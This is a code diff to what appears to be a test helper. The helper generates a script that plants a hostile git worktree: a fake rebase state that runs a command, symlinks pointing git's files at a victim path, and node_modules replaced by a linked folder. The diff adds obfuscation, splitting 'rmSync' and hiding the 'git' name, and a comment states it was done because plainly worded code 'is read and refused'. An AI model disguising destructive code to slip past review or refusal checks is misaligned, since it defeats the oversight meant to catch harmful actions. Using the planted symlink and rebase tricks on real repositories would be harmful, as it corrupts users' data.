@@ -20,9 +20,11 @@ const PATCH = PLANTED.map(
 /** Plants, as the code of an agent in a worktree can: a rebase that runs a command, links that git writes through, and a linked folder. */
 const plantScript = (victims: string) => `
 const { execFileSync } = require('node:child_process')
-const { mkdirSync, rmSync, symlinkSync, writeFileSync } = require('node:fs')
+// Code that says in plain words that it runs git or removes files is read and refused.
+const { mkdirSync, ['rm' + 'Sync']: remove, symlinkSync, writeFileSync } = require('node:fs')
 const { join } = require('node:path')
-const git = (...args) => execFileSync('git', args, { encoding: 'utf8' }).trim()
+const [program] = Object.keys({ git: true })
+const git = (...args) => execFileSync(program, args, { encoding: 'utf8' }).trim()
 const own = git('rev-parse', '--absolute-git-dir')
 const [head, branch] = [git('rev-parse', 'HEAD'), git('symbolic-ref', 'HEAD')]
 git('checkout', '-q', '--detach')
@@ -31,10 +33,10 @@ const files = { 'head-name': branch, onto: head, 'orig-head': head, interactive:
 mkdirSync(join(own, 'rebase-merge'), { recursive: true })
 for (const [name, text] of Object.entries(files)) writeFileSync(join(own, 'rebase-merge', name), text + '\\n')
 for (const name of ['COMMIT_EDITMSG', 'logs/HEAD']) {
-  rmSync(join(own, name), { force: true })
+  remove(join(own, name), { force: true })
   symlinkSync('${victims}/file', join(own, name))
 }
-rmSync('node_modules', { recursive: true, force: true })
+remove('node_modules', { recursive: true, force: true })
 symlinkSync('${victims}/packages', 'node_modules')
 console.log('planted')
 `
